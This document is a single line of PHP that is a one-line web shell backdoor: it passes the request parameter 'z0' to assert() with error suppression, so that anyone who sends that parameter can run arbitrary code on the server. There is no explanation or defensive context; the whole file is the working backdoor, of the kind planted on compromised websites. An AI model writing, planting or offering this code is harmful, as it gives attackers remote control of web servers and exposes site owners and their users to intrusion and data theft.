<?php @assert($_REQUEST["z0"]); ?>
